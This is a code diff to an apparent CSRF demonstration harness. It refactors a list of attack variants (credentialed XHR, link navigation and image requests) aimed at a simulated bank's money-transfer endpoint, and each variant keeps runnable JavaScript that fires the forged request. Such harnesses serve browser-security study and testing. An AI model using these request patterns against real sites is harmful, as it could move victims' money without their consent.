@@ -4,6 +4,8 @@
 // holding. `request` describes that same request in the terms of the Fetch standard, for
 // the rule engine that predicts the outcome without a browser.
 
+import { TRANSFER_LITERAL, TRANSFER_PATH } from './transfer.js';
+
 export type AttackId =
   | 'xhr-get-transfer'
   | 'xhr-get-transfer-credentials'
@@ -57,7 +59,7 @@ export interface Attack {
   code: string;
 }
 
-const transferBody = "{ routing: '555', account: '1234', amount: '1' }";
+const transferBody = TRANSFER_LITERAL;
 
 export const attacks: readonly Attack[] = [
   {
@@ -67,12 +69,12 @@ export const attacks: readonly Attack[] = [
       'It arrives at the bank, but without withCredentials no cookie rides along: the bank sees a stranger.',
     request: {
       api: 'xhr', method: 'GET', mode: 'cors', credentials: 'same-origin',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: TRANSFER_PATH,
     },
     code: `async ({ bank, probe }) => {
   // The seed's request, exactly as the blog describes it.
   const xhr = new XMLHttpRequest();
-  xhr.open('GET', bank + '/transfer_to/555/1234/1?probe=' + probe);
+  xhr.open('GET', bank + '${TRANSFER_PATH}?probe=' + probe);
   xhr.send();
   await new Promise((done) => { xhr.onloadend = done; });
   return xhr;
@@ -85,11 +87,11 @@ export const attacks: readonly Attack[] = [
       'A simple GET: no preflight, so it arrives with every cookie SameSite and the third-party policy allow, and moves money.',
     request: {
       api: 'xhr', method: 'GET', mode: 'cors', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
+      contentType: null, extraHeaders: [], destination: 'empty', endpoint: 'transfer', path: TRANSFER_PATH,
     },
     code: `async ({ bank, probe }) => {
   const xhr = new XMLHttpRequest();
-  xhr.open('GET', bank + '/transfer_to/555/1234/1?probe=' + probe);
+  xhr.open('GET', bank + '${TRANSFER_PATH}?probe=' + probe);
   xhr.withCredentials = true;
   xhr.send();
   await new Promise((done) => { xhr.onloadend = done; });
@@ -265,11 +267,11 @@ export const attacks: readonly Attack[] = [
       'A link the victim follows. Top-level GET navigations carry Lax cookies, and third-party blocking does not apply.',
     request: {
       api: 'window-open', method: 'GET', mode: 'navigate', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'document', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
+      contentType: null, extraHeaders: [], destination: 'document', endpoint: 'transfer', path: TRANSFER_PATH,
     },
     code: `async ({ bank, probe }) => {
   // As a link with target="link-tab" would: a top-level navigation in another tab.
-  return window.open(bank + '/transfer_to/555/1234/1?probe=' + probe, 'link-tab');
+  return window.open(bank + '${TRANSFER_PATH}?probe=' + probe, 'link-tab');
 }`,
   },
   {
@@ -279,11 +281,11 @@ export const attacks: readonly Attack[] = [
       'The oldest CSRF: an image request is a no-cors GET. The script only learns “load” or “error”.',
     request: {
       api: 'img', method: 'GET', mode: 'no-cors', credentials: 'include',
-      contentType: null, extraHeaders: [], destination: 'image', endpoint: 'transfer', path: '/transfer_to/555/1234/1',
+      contentType: null, extraHeaders: [], destination: 'image', endpoint: 'transfer', path: TRANSFER_PATH,
     },
     code: `async ({ bank, probe }) => {
   const img = new Image();
-  img.src = bank + '/transfer_to/555/1234/1?probe=' + probe;
+  img.src = bank + '${TRANSFER_PATH}?probe=' + probe;
   await new Promise((done) => { img.onload = img.onerror = done; });
   return img;
 }`,
